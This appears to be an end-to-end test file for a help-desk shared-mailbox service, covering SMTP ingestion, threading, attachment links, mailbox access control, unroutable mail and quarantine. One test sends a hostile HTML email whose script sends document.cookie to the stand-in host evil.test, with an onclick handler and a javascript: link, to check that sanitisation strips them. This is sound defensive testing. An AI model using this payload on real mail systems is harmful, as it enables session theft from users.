/**
 * End to end on the embedded local stack: mail sent over real SMTP, read back through the HTTP
 * API with a development token, as a newcomer would after `npm start`.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import { api, sendMail, startTestStack, waitFor, type ApiClient, type LocalStack } from '../support/local-stack.js';

let stack: LocalStack;
/** Dispatcher of Support: sees every conversation of the mailbox. */
let alex: ApiClient;
/** Agent of Support only: member of no other mailbox. */
let julien: ApiClient;
let camille: ApiClient;
let sarah: ApiClient;

interface Summary { conversationId: string; subject: string; messageCount: number; status: string; isNew: boolean; labels: string[] }

async function findConversation(client: ApiClient, mailboxId: string, subject: string): Promise<Summary> {
  return waitFor(async () => {
    const page = await client.get<{ items: Summary[] }>(`/api/mailboxes/${mailboxId}/conversations?limit=100`);
    return page.body.items.find((c) => c.subject === subject);
  }, 15_000);
}

beforeAll(async () => {
  stack = await startTestStack();
  alex = api(stack, await stack.signIn('alex@acme.test'));
  julien = api(stack, await stack.signIn('julien@acme.test'));
  camille = api(stack, await stack.signIn('camille@acme.test'));
  sarah = api(stack, await stack.signIn('sarah@acme.test'));
}, 60_000);

afterAll(async () => {
  await stack?.stop();
});

describe('inbound mail over SMTP', () => {
  it('threads a reply into its conversation and explains why', async () => {
    // Prepare
    const first = await sendMail(stack, {
      from: 'Élodie Durand <elodie@client.test>', to: 'support@acme.test', subject: 'Problème de connexion',
      text: 'Bonjour, je ne peux plus me connecter à mon espace – pouvez-vous m’aider ? Merci, Élodie',
    });

    // Act
    await sendMail(stack, {
      from: 'Élodie Durand <elodie@client.test>', to: 'support@acme.test', subject: 'RE: Problème de connexion',
      text: 'Toujours bloquée depuis ce matin.', inReplyTo: first.messageId, references: first.messageId,
    });
    await stack.drain();

    // Assess
    const summary = await findConversation(alex, 'support', 'Problème de connexion');
    expect(summary).toMatchObject({ messageCount: 2, status: 'unassigned', isNew: true });
    const detail = await alex.get<any>(`/api/conversations/${summary.conversationId}`);
    expect(detail.status).toBe(200);
    expect(detail.body.messages.map((m: any) => m.threading.kind)).toEqual(['new', 'in-reply-to']);
    expect(detail.body.messages[0].from).toEqual({ address: 'elodie@client.test', name: 'Élodie Durand' });
    expect(detail.body.messages[0].text).toContain('je ne peux plus me connecter à mon espace – pouvez-vous m’aider');
    expect(detail.body.messages[1].threading.explanation).toContain(first.messageId.replace(/[<>]/g, ''));
  });

  it('serves the raw .eml exactly as received and attachments through short-lived links', async () => {
    const sent = await sendMail(stack, {
      from: 'compta@client.test', to: 'factures@acme.test', subject: 'Facture novembre',
      text: 'Veuillez trouver la facture ci-jointe.',
      attachments: [{ filename: 'facture-novembre.pdf', content: Buffer.from('%PDF-1.4 facture'), contentType: 'application/pdf' }],
    });
    await stack.drain();
    const summary = await findConversation(alex, 'support', 'Facture novembre');
    expect(summary.labels).toEqual(['facturation']);
    const detail = await alex.get<any>(`/api/conversations/${summary.conversationId}`);
    const message = detail.body.messages[0];
    expect(message.attachments).toEqual([expect.objectContaining({ filename: 'facture-novembre.pdf', contentType: 'application/pdf', size: 16 })]);

    // A browser asks for the link as JSON; other clients follow a redirect.
    const link = await alex.get<{ url: string; expiresAt: string }>(message.rawUrl);
    expect(link.status).toBe(200);
    expect(Date.parse(link.body.expiresAt)).toBeGreaterThan(Date.now());
    const token = await stack.signIn('alex@acme.test');
    const redirect = await fetch(`${stack.httpUrl}${message.rawUrl}`, { headers: { authorization: `Bearer ${token}` }, redirect: 'manual' });
    expect(redirect.status).toBe(302);
    expect(redirect.headers.get('location')).toMatch(/^http/);
    const eml = await fetch(link.body.url);
    const text = await eml.text();
    expect(text).toContain(`Message-ID: ${sent.messageId}`);
    expect(text).toContain('Subject: Facture novembre');

    const attachment = await alex.get<{ url: string }>(message.attachments[0].url);
    expect(attachment.status).toBe(200);
    expect(await (await fetch(attachment.body.url)).text()).toBe('%PDF-1.4 facture');
  });

  it('keeps other mailboxes and their files private', async () => {
    await sendMail(stack, { from: 'prospect@client.test', to: 'ventes@acme.test', subject: 'Demande de devis', text: 'Bonjour' });
    await stack.drain();
    const summary = await findConversation(sarah, 'ventes', 'Demande de devis');
    expect((await julien.get(`/api/conversations/${summary.conversationId}`)).status).toBe(404);
    expect((await julien.get('/api/mailboxes/ventes/conversations')).status).toBe(404);
    const detail = await sarah.get<any>(`/api/conversations/${summary.conversationId}`);
    expect((await julien.get(detail.body.messages[0].rawUrl)).status).toBe(404);
  });

  it('shows mail to two shared addresses in both mailboxes, stored once', async () => {
    await sendMail(stack, { from: 'partenaire@client.test', to: ['support@acme.test', 'ventes@acme.test'], subject: 'Salon professionnel', text: 'Invitation' });
    await stack.drain();
    const inSupport = await findConversation(alex, 'support', 'Salon professionnel');
    const inVentes = await findConversation(sarah, 'ventes', 'Salon professionnel');
    expect(inSupport.conversationId).not.toBe(inVentes.conversationId);
    const a = await alex.get<any>(`/api/conversations/${inSupport.conversationId}`);
    const b = await sarah.get<any>(`/api/conversations/${inVentes.conversationId}`);
    expect(a.body.messages[0].messageKey).toBe(b.body.messages[0].messageKey);
  });

  it('sanitises hostile HTML before anyone can read it', async () => {
    await sendMail(stack, {
      from: 'attacker@evil.test', to: 'support@acme.test', subject: 'Facture urgente',
      html: '<p onclick="steal()">Bonjour</p><script>fetch("https://evil.test/?c="+document.cookie)</script><img src="https://evil.test/pixel.gif"><a href="javascript:alert(1)">payer</a>',
    });
    await stack.drain();
    const summary = await findConversation(alex, 'support', 'Facture urgente');
    const detail = await alex.get<any>(`/api/conversations/${summary.conversationId}`);
    const html: string = detail.body.messages[0].html;
    expect(html).toContain('Bonjour');
    expect(html).not.toMatch(/<script|onclick|javascript:/i);
    expect(html).not.toMatch(/\ssrc=["']https:\/\/evil/);
    expect(detail.body.messages[0].flags).toEqual(expect.arrayContaining(['hostile-html', 'remote-images']));
  });

  it('records mail for unknown domains as unroutable for administrators', async () => {
    await sendMail(stack, { from: 'x@client.test', to: 'someone@unknown-domain.test', subject: 'Égaré', text: '?' });
    await stack.drain();
    const listed = await waitFor(async () => {
      const page = await camille.get<any>('/api/admin/unroutable');
      return page.body.items.find((m: any) => m.subject === 'Égaré');
    });
    expect(listed.envelopeRecipients).toEqual(['someone@unknown-domain.test']);
    expect((await julien.get('/api/admin/unroutable')).status).toBe(403);
    // The raw message stays downloadable for administrators, and only for them.
    expect((await camille.get(listed.rawUrl)).status).toBe(200);
    expect((await julien.get(listed.rawUrl)).status).toBe(404);
  });

  it('quarantines a message that keeps failing and lists it for administrators', async () => {
    // A notification for an object that does not exist fails on every attempt.
    const sns = new SNSClient({ endpoint: stack.endpoints.sns, region: 'us-east-1', credentials: { accessKeyId: 'local', secretAccessKey: 'local' } });
    await sns.send(new PublishCommand({
      TopicArn: stack.resources.topicArn,
      Message: JSON.stringify({
        notificationType: 'Received', mail: { timestamp: new Date().toISOString(), messageId: 'lost-object' },
        receipt: { recipients: ['support@acme.test'], action: { type: 'S3', bucketName: stack.resources.mailBucket, objectKey: 'inbound/lost-object' } },
      }),
    }));
    sns.destroy();
    const item = await waitFor(async () => {
      const page = await camille.get<any>('/api/admin/quarantine');
      return page.body.items.find((i: any) => i.rawKey === 'inbound/lost-object');
    }, 30_000, 250);
    expect(item.attempts).toBe(3);
    expect(item.error).toContain('inbound/lost-object');
  }, 40_000);
});
